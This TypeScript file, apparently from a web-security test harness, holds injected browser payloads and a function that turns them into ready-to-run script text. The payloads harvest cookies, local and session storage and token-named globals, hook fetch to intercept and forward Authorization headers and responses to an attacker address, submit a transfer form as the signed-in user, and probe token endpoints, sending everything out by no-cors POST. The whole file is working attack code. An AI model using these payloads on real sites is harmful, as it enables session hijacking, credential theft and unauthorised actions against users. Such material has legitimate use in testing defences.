/** What injected scripts do. Each is sent to the browser as text, so it uses nothing from outside itself. */

/** Waits until the user is signed in, and takes along everything that a script can read where it lies. */
async function reads(sendTo: string): Promise<void> {
  const who = () => document.querySelector('#who')?.textContent ?? '';
  while (['', 'nobody'].includes(who())) await new Promise((resolve) => setTimeout(resolve, 20));
  const found = {
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
    cookie: document.cookie,
    url: location.href,
    databases: await indexedDB.databases(),
    globals: Object.keys(globalThis).filter((name) => /token|jwt|auth/i.test(name)),
  };
  await fetch(sendTo, { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
}

/** Puts itself before `fetch`: keeps back what the application would send, and sends that to the attacker. */
async function listens(sendTo: string): Promise<void> {
  const real = globalThis.fetch;
  const send = (loot: unknown) => real(sendTo, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
  globalThis.fetch = async (input, init) => {
    const request = new Request(input, init);
    const { method, url } = request;
    const headers = Object.fromEntries(request.headers);
    if ('authorization' in headers || url.includes('token=')) {
      await send({ request: { method, url, headers, body: await request.text() } });
      return new Promise(() => {});
    }
    const answer = await real(request);
    const copy = answer.clone();
    void copy.text().then((text) => send({ answer: text }));
    return answer;
  };
}

/** Lets the page itself do what the user could do, with nothing taken anywhere. */
async function uses(_sendTo: string, cell: string): Promise<void> {
  const who = () => document.querySelector('#who')?.textContent ?? '';
  while (['', 'nobody'].includes(who())) await new Promise((resolve) => setTimeout(resolve, 20));
  const form = document.querySelector<HTMLFormElement>('#transfer');
  const field = form?.querySelector('input');
  if (!form || !field) return;
  field.value = cell;
  form.requestSubmit();
}

/** Asks the server for a token, as the application could: as soon as there is one, or when the user is signed in. */
async function asks(sendTo: string): Promise<void> {
  const who = () => document.querySelector('#who')?.textContent ?? '';
  const { base = '', api = '' } = document.documentElement.dataset;
  const ask = async (path: string, method: string, wanted: unknown = {}) => {
    const body = method === 'POST' ? JSON.stringify(wanted) : null;
    const answer = await fetch(path, { method, body, headers: { 'Content-Type': 'application/json' } });
    return { path, status: answer.status, answer: await answer.text() };
  };
  const asked: unknown[] = [];
  for (let patience = 50; patience > 0; patience -= 1) {
    // Before the question: what was asked too early is asked once more.
    const isKnown = !['', 'nobody'].includes(who());
    const token = await ask('/api/session/token', 'POST', { audience: api });
    asked.splice(0, asked.length, token);
    if (token.status === 200 || isKnown) break;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  for (const wanted of [{}, { deliver: 'cookie' }]) asked.push(await ask('/api/session/token', 'POST', wanted));
  for (const path of ['/api/session', `${base}api/token`, `${base}api/me`]) {
    for (const method of ['GET', 'POST']) asked.push(await ask(path, method));
  }
  await fetch(sendTo, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ asked }) });
}

const payloads = { reads, listens, uses, asks };
export type Payload = keyof typeof payloads | 'takes';

/** The script, ready to run. */
export function payloadScript(payload: string, sendTo: string, cell: string): string {
  const scripts =
    payload === 'takes'
      ? [listens, reads, asks]
      : Object.hasOwn(payloads, payload)
        ? [payloads[payload as 'reads']]
        : [];
  return scripts
    .map((script) => `(${script.toString()})(${JSON.stringify(sendTo)}, ${JSON.stringify(cell)});`)
    .join('\n');
}
